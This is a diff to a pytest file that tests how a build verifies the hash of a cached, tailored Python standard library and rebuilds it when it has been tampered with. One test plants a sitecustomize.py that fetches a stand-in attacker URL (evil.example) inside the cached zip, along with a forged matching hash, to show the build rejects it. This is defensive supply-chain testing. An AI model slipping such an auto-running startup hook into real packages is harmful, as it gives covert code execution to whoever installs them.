@@ -8,6 +8,7 @@ build refuses one that does not work.
 from __future__ import annotations
 
 import ast
+import logging
 import shutil
 import subprocess
 import sys
@@ -18,6 +19,7 @@ from pathlib import Path
 import pytest
 
 from refund_site import stdlib
+from refund_site.runtime import file_sha256
 from refund_site.shipping import gzipped
 from refund_site.stdlib import STDLIB_NAME, StdlibError, tailored_stdlib
 from refund_site.wheel import LOCK_PACKAGE_NAME, build_checker_wheel, write_lock
@@ -190,15 +192,57 @@ def test_the_checker_imports_everything_when_it_is_imported() -> None:
     assert late == [], f"imports inside functions or blocks: {late}"
 
 
-def test_a_cached_library_that_changed_since_it_was_tested_is_refused(
+def test_the_repository_records_the_hash_of_the_library_the_build_ships(
+    tailored: Path, shipped: dict[str, Path]
+) -> None:
+    # Without it, every build makes the library again under Node: the build says which line to
+    # add (refund_site/tailored-stdlib.sha256) when the checker's code changes.
+    key = stdlib._content_key(shipped["wheel"])
+    assert stdlib.recorded().get(key) == file_sha256(tailored), (
+        f"add the line “{key} {file_sha256(tailored)}” to refund_site/tailored-stdlib.sha256"
+    )
+
+
+def test_a_cached_library_changed_with_its_hash_beside_it_is_not_shipped(
     tailored: Path, shipped: dict[str, Path], tmp_path: Path
 ) -> None:
+    # The cache cannot vouch for itself: a sitecustomize.py added to the cached zip, with a
+    # matching .sha256 written beside it, is thrown away and the library made afresh.
     cache = tmp_path / "cache"
     shutil.copytree(tailored.parent, cache / "stdlib" / tailored.parent.name)
     copy = cache / "stdlib" / tailored.parent.name / STDLIB_NAME
-    assert make(shipped, cache=cache) == copy  # untouched: taken as it is
-    copy.write_bytes(copy.read_bytes() + b"\0")
+    assert make(shipped, cache=cache) == copy  # as recorded: taken as it is
+    with zipfile.ZipFile(copy, "a") as archive:
+        archive.writestr("sitecustomize.py", "import js; js.fetch('https://evil.example/')\n")
+    (copy.parent / f"{STDLIB_NAME}.sha256").write_text(file_sha256(copy) + "\n")
+    assert make(shipped, cache=cache) == copy
+    assert "sitecustomize.py" not in modules_in(copy)
+    assert file_sha256(copy) == file_sha256(tailored)
+
+
+def test_without_a_record_the_cache_is_not_trusted_and_the_build_says_what_to_record(
+    tailored: Path,
+    shipped: dict[str, Path],
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    cache = tmp_path / "cache"
+    shutil.copytree(tailored.parent, cache / "stdlib" / tailored.parent.name)
+    record = tmp_path / "tailored-stdlib.sha256"
+    record.write_text("# nothing recorded yet\n", encoding="utf-8")
+    monkeypatch.setattr(stdlib, "RECORD", record)
+    # Made afresh (so Node is needed), though the cache holds a library for this key.
+    with monkeypatch.context() as without_node:
+        without_node.setenv("PATH", "/nonexistent")
+        with pytest.raises(StdlibError, match=r"Node\.js is needed"):
+            make(shipped, cache=cache)
+    with caplog.at_level(logging.INFO):
+        made = make(shipped, cache=cache)
+    key = stdlib._content_key(shipped["wheel"])
+    assert f"Record it: add the line “{key} {file_sha256(made)}”" in caplog.text
+    # A record that does not match what the build makes stops it.
+    record.write_text(f"{key} {'0' * 64}\n", encoding="utf-8")
     with pytest.raises(StdlibError) as raised:
         make(shipped, cache=cache)
-    assert "not the one the build tested" in str(raised.value)
-    assert str(copy.parent) in str(raised.value)
+    assert f"its sha256 ({file_sha256(tailored)}) is not the one" in str(raised.value)
